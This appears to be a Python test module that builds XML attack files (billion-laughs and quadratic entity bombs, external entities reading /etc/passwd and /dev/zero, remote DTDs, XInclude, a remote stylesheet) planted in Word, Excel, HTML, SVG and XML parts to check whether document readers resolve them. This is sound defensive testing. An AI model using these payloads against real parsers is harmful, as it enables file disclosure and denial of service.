"""Entity bombs and external entities in every XML part that a reader opens."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from evals.traps.trap import VISIBLE, Trap, docx_parts, docx_with, of_bytes, xlsx_parts, xlsx_with

_DOCX_PARTS = (
    "word/document.xml",
    "word/styles.xml",
    "word/numbering.xml",
    "docProps/core.xml",
    "_rels/.rels",
    "[Content_Types].xml",
)
_XLSX_PARTS = (
    "xl/workbook.xml",
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
    "docProps/core.xml",
)


def traps(bait: str) -> Iterator[Trap]:
    """Each attack in each part of Word and Excel files, and in bare pages, pictures and XML files."""
    for attack, prologue in _prologues(bait).items():
        for part in _DOCX_PARTS:
            name = f"{attack} in {part}"
            yield of_bytes(name, "a.docx", partial(_docx, part, prologue))
        for part in _XLSX_PARTS:
            yield of_bytes(f"{attack} in {part} of Excel", "a.xlsx", partial(_xlsx, part, prologue))
        yield of_bytes(f"{attack} in a page", "a.html", partial(_page, prologue))
        yield of_bytes(f"{attack} in a picture", "a.svg", partial(_svg, prologue))
        yield of_bytes(f"{attack} in a bare file", "a.xml", partial(_xml, prologue))
    yield of_bytes("external entity in UTF-16", "rong.docx", partial(_wide, bait))
    yield of_bytes("inclusion of a file", "xinclude.xml", _xinclude)
    yield of_bytes("style sheet from elsewhere", "kieu.xml", partial(_style_sheet, bait))


def _prologues(bait: str) -> dict[str, str]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return {
        "a billion laughs": f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}<!ENTITY bomb "&a9;">]>',
        "quadratic growth": f'<!DOCTYPE x [<!ENTITY big "{"ha" * 50_000}"><!ENTITY bomb "{"&big;" * 5000}">]>',
        "accounts of the system": '<!DOCTYPE x [<!ENTITY bomb SYSTEM "file:///etc/passwd">]>',
        "an address": f'<!DOCTYPE x [<!ENTITY bomb SYSTEM "{bait}/entity">]>',
        "a DTD from elsewhere": f'<!DOCTYPE x SYSTEM "{bait}/a.dtd" [<!ENTITY % p SYSTEM "{bait}/p"> %p;]>',
        "a device without end": '<!DOCTYPE x [<!ENTITY bomb SYSTEM "file:///dev/zero">]>',
    }


def _docx(part: str, prologue: str) -> bytes:
    return docx_with({part: _attacked(docx_parts()[part], prologue)})


def _xlsx(part: str, prologue: str) -> bytes:
    return xlsx_with({part: _attacked(xlsx_parts()[part], prologue)})


def _attacked(content: bytes, prologue: str) -> bytes:
    """The part with the prologue after its declaration and the entity before its first closing tag."""
    text = content.decode()
    start = text.index("?>") + 2 if text.startswith("<?xml") else 0
    place = text.find("</", start)
    use = "" if "SYSTEM" in prologue and "bomb" not in prologue else "&bomb;"
    return f"{text[:start]}{prologue}{text[start:place]}{use}{text[place:]}".encode()


def _page(prologue: str) -> bytes:
    return f"{prologue}<html><body><p>{VISIBLE}</p><p>&bomb;</p><svg><text>&bomb;</text></svg></body></html>".encode()


def _svg(prologue: str) -> bytes:
    return f'<?xml version="1.0"?>{prologue}<svg xmlns="http://www.w3.org/2000/svg"><text>&bomb;</text></svg>'.encode()


def _xml(prologue: str) -> bytes:
    return f'<?xml version="1.0"?>{prologue}<x>{VISIBLE} &bomb;</x>'.encode()


def _wide(bait: str) -> bytes:
    text = docx_parts()["word/document.xml"].decode().replace("UTF-8", "UTF-16").replace("utf-8", "utf-16")
    start = text.index("?>") + 2
    wide = f'{text[:start]}<!DOCTYPE x [<!ENTITY bomb SYSTEM "{bait}/wide">]>{text[start:]}'
    return docx_with({"word/document.xml": wide.encode("utf-16")})


def _xinclude() -> bytes:
    return (
        '<?xml version="1.0"?><x xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'{VISIBLE}<xi:include href="file:///etc/passwd" parse="text"/></x>'
    ).encode()


def _style_sheet(bait: str) -> bytes:
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{bait}/a.xsl"?><x>{VISIBLE}</x>'.encode()
